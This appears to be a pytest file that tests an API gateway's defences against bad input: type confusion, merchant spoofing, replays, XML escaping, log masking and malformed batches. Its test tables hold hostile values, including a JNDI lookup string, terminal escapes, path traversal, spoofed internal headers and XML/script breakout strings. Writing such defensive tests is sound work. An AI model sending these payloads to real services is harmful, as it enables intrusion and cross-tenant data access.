"""Values that lie about their type, merchant or time: schemas, replays, other people's orders, lines in a record, XML out."""

import asyncio
import re
from xml.etree import ElementTree

import orjson
import pytest
from starlette.responses import Response

from openplatform.protocol import encode_query
from tests.faults.bad_input.wire import Made, Refused, ask, check, error_of, exchange, get, post
from tests.gateway_world import SESSION, World

pytestmark = pytest.mark.asyncio(loop_scope="module")

SCHEMA = {
    "type": "object",
    "required": ["page"],
    "properties": {
        "page": {"type": "integer", "minimum": 1}, "page_size": {"type": "integer", "minimum": 1, "maximum": 100},
        "price": {"type": "number"}, "is_open": {"type": "boolean"}, "ids": {"type": "array", "items": {"type": "integer"}},
        "filter": {"type": "object", "properties": {"n": {"type": "integer"}}},
    },
}  # fmt: skip


def typed(page: str | None = "1", **params: str) -> Made:
    return lambda world: post(world.signed("open.typed.get", page=page, **params))


def wrong(name: str) -> Refused:
    return 41, f"isv.invalid-parameter:{name}"


ROWS: dict[str, tuple[Made, Refused | dict[str, str]]] = {
    "page 1": (typed("1"), {"page": "1"}),
    "no page": (typed(None), (40, "isv.missing-parameter:page")),
    "empty page": (typed(""), (40, "isv.missing-parameter:page")),
    **{
        f"page {page[:20]!r}": (typed(page), wrong("page"))
        for page in (
            "0", "-1", "1.5", "1e3", "1e309", "NaN", "Infinity", "0x10", "１", "²", "٣", " 1", "1 ", "+1", "1_0", "1\0", "true", "null",
            "9" * 20, "9" * 100_000, "[1]", '{"a":1}',
        )
    },
    "2^63 - 1": (typed("9223372036854775807"), {"page": "9223372036854775807"}),
    **{f"page_size {size}": (typed(page_size=size), wrong("page_size")) for size in ("0", "101", "2147483648", "-9223372036854775809")},
    "page_size 100": (typed(page_size="100"), {"page": "1", "page_size": "100"}),
    **{f"price {price[:20]!r}": (typed(price=price), wrong("price")) for price in ("NaN", "inf", "1e999", "1,5", "--1", "9" * 10_000)},
    **{f"is_open {text!r}": (typed(is_open=text), wrong("is_open")) for text in ("1", "yes", "TRUE", "True")},
    **{
        f"ids {ids[:20]!r}": (typed(ids=ids), wrong("ids"))
        for ids in ("1,x", "1,,2", ",", "[1,2", "[" * 10_000, "[" * 10_000 + "]" * 10_000, '["1"]', "[1e309]", "[NaN]", "1," * 20_000 + "1")
    },
    **{
        f"filter {text[:20]!r}": (typed(filter=text), wrong("filter"))
        for text in ("{", "x", "[]", "{}}", '{"n":"1"}', '{"n":NaN}', '{"n":' * 10_000, '{"n":1e309}', '{"n":"\\ud800"}')
    },
    "a name that is none": (typed(**{"\x1b[2J\r\n": "1"}), {"page": "1", "\x1b[2J\r\n": "1"}),
    "a name that is refused": (
        lambda w: post(w.signed("open.strict.get", **{"\x1b[2J\0": "1"})),
        wrong("?[2J?"),
    ),
    # merchant
    "a merchant of one's own choice": (
        lambda w: post(w.signed(venderId="1", vender_id="2", VENDER_ID="3", filter='{"vender_id":4}')),
        {"venderId": "1", "vender_id": "2", "VENDER_ID": "3", "filter": '{"vender_id":4}'},
    ),
    "headers of the platform": (
        lambda w: post(w.signed(), head=b"X-Vender-Id: 1\r\nX_Vender_Id: 2\r\nX-Internal-Key: x\r\nX-App-Key: y\r\nX-Data-Scope: all\r\n"),
        {},
    ),
    "a path that climbs": (lambda w: get(w.signed("open.item.get", item_id="../echo")), (15, "isv.not-found")),
    "a path that ends": (lambda w: get(w.signed("open.item.get", item_id="..")), wrong("item_id")),
}  # fmt: skip


@pytest.fixture(autouse=True)
def _no_shared_answers(world: World) -> None:
    world.answers.clear()


@pytest.mark.parametrize("row", ROWS)
async def test_row(row: str, world: World, caplog: pytest.LogCaptureFixture) -> None:
    """Each row ends with its one documented code, or reaches the service as it was sent, for the session's merchant."""
    if "open.typed.get" not in world.resources.catalog.routes:
        strict = '{"type": "object", "additionalProperties": false}'
        await world.put_route("open.strict.get", "/echo", request_schema=strict)
        await world.put_route(
            "open.typed.get", "/echo", request_schema=orjson.dumps(SCHEMA).decode(), http_method="POST"
        )
    make, expected = ROWS[row]
    await check(world, make(world), expected, caplog)
    assert {headers["x-vender-id"] for _, headers, _ in world.seen} == {"777"}


async def test_replays(world: World) -> None:
    """Of the same signed bytes, at once or later, under other headers or in another place, one reaches the service."""
    await world.put_route("open.guarded.post", "/echo", http_method="POST", replay_guard=True)
    params = world.signed("open.guarded.post", a="1")
    before = len(world.seen)
    said = await asyncio.gather(*[send(world, post(params)) for _ in range(20)])
    others = [get(params), post(params, head=b"User-Agent: other\r\n"), post(dict(reversed(params.items())))]
    others += [post({**params, "sign": params["sign"].lower()})]
    said += [await send(world, data) for data in others]
    ends = [error_of(body) if b"error_response" in body else "served" for body in said]
    assert sorted(map(str, ends)) == sorted(["served"] + [str((25, "isv.replayed-request"))] * 23)
    assert len(world.seen) - before == 1
    assert len(await world.logs()) == 24
    assert error_of(await send(world, post({**params, "b": "2"}))) == (25, "isv.invalid-signature")
    assert error_of(await send(world, post({**params, "app_key": "x" * 50}))) == (25, "isv.invalid-signature")
    await world.logs()


async def send(world: World, data: bytes) -> bytes:
    """The answer's body; records are left for later."""
    reader, writer = await asyncio.open_connection("127.0.0.1", world.port)
    writer.write(data)
    said = await reader.read()
    writer.close()
    await writer.wait_closed()
    return said.partition(b"\r\n\r\n")[2]


@pytest.mark.parametrize(
    "text",
    [
        "]]>",
        "<![CDATA[",
        "</note><code>0</code>",
        "&lt;&#0;",
        "\x00\x0b\x1f",
        "\ufffe\uffff",
        "a\r\nb",
        '"',
        "<script>",
    ],
)
async def test_xml_out(text: str, world: World) -> None:
    """Whatever a service or a caller says stays one element's text; characters that XML cannot hold are dropped."""
    world.answers["/echo"] = Response(orjson.dumps({"note": text, "<x y='": text}))
    answer = await ask(world, post(world.signed("open.echo.post", format="xml")))
    root = ElementTree.fromstring(answer.body)
    assert (len(root), root[-1].tag) == (3, "request_id")
    assert root.findtext("note", "") == re.sub("[\0\x0b\x1f\ufffe\uffff]", "", text)


LINES = {
    "line breaks": ("keyword", "a\r\nb\u2028c", "keyword=a\\u000d\\u000ab\\u2028c"),
    "terminal": ("keyword", "\x1b[2J\x9b1m", "keyword=\\u001b[2J\\u009b1m"),
    "look-up": ("keyword", "${jndi:ldap://x/a}", "keyword=${jndi:ldap://x/a}"),
    "access token": ("Access-Token", "S3CR3T", "Access-Token=***"),
    "secret": ("my_APP_SECRET", "S3CR3T", "my_APP_SECRET=***"),
    "password": ("userPassword", "S3CR3T", "userPassword=***"),
    "telephone": ("cons_mobile_phone", "13800000000", "cons_mobile_phone=***"),
    "telephone in base64": ("cons_phone", "MTM4MDAwMDAwMDA=", "cons_phone=***"),
}


@pytest.mark.parametrize("what", LINES)
async def test_records(what: str, world: World) -> None:
    """A record is one line of printable text, with secrets and personal data masked by their names."""
    name, value, recorded = LINES[what]
    answer = await ask(world, post(world.signed("open.echo.post", **{name: value})))
    assert answer.log is not None
    assert recorded in answer.log.requestContent
    assert SESSION not in answer.log.requestContent


async def test_a_record_of_a_megabyte(world: World) -> None:
    """It is cut at 8 KiB and says so; so is one of characters that grow when they are escaped."""
    for character in ("x", "\x1b"):
        answer = await ask(world, post(world.signed("open.echo.post", a=character * 1_000_000)))
        assert answer.log is not None
        assert (len(answer.log.requestContent), answer.log.truncated) == (8192, True)


BATCHES: dict[str, tuple[bytes, bytes, Refused | None]] = {
    "no calls": (b"", b"", (40, "isv.missing-parameter:body")),
    "only shared parameters": (b"#PUBLIC#method=open.echo.get", b"", (40, "isv.missing-parameter:body")),
    "separators only": (b"\r\n-S-\r\n" * 19, b"", None),
    "21 calls": (b"\r\n-S-\r\n".join([b"N"] * 21), b"", (41, "isv.invalid-parameter:body")),
    "a million calls": (b"N\r\n-S-\r\n" * 1_000_000, b"", (41, "isv.invalid-parameter:body")),
    "shared parameters of no encoding": (b"#PUBLIC#a=%ff\r\n-S-\r\nN", b"", (47, "")),
    "shared parameters named twice": (b"#PUBLIC#a=1&a=2\r\n-S-\r\nN", b"", (41, "isv.invalid-parameter:a")),
    "shared app_key": (b"#PUBLIC#app_key=other\r\n-S-\r\nN", b"", (41, "isv.invalid-parameter:app_key")),
    "empty separator": (b"N", b"top-api-separator:\r\n", None),
    "separator of 65 bytes": (
        b"N",
        b"top-api-separator: " + b"x" * 65 + b"\r\n",
        (41, "isv.invalid-parameter:top-api-separator"),
    ),
    "a batch in a batch": (b"method=open.echo.get\n-S-\n#PUBLIC#a=1", b"", None),
    "multipart": (b'--B\r\nContent-Disposition: form-data; name="method"\r\n\r\nx\r\n--B--', b"", None),
    "random bytes": (bytes(range(256)), b"", None),
}


@pytest.mark.parametrize("what", BATCHES)
async def test_batches(what: str, world: World, caplog: pytest.LogCaptureFixture) -> None:
    """A batch that cannot be read is one error and one record; of one that can, every call ends by itself, with its own."""
    body, head, expected = BATCHES[what]
    params = world.signed(body=body, method=None, session=None)
    head += b"Content-Type: text/plain;charset=utf-8\r\nContent-Length: %d\r\nConnection: close\r\n" % len(body)
    query = encode_query(params).encode()
    data = b"POST /router/batch?" + query + b" HTTP/1.1\r\nHost: gateway\r\n" + head + b"\r\n" + body
    before = len(world.seen)
    said, logs = await exchange(world, data)
    answer = said.partition(b"\r\n\r\n")[2]
    assert said.startswith(b"HTTP/1.1 200 OK")
    parts = answer.split(b"\r\n-S-\r\n")
    assert len(parts) == len(logs)
    if expected is not None:
        assert [error_of(part) for part in parts] == [expected]
    else:
        assert {error_of(part)[0] for part in parts} <= {21, 22, 41, 47}
    assert len(world.seen) == before
    assert not [record for record in caplog.records if record.levelname in ("WARNING", "ERROR")]
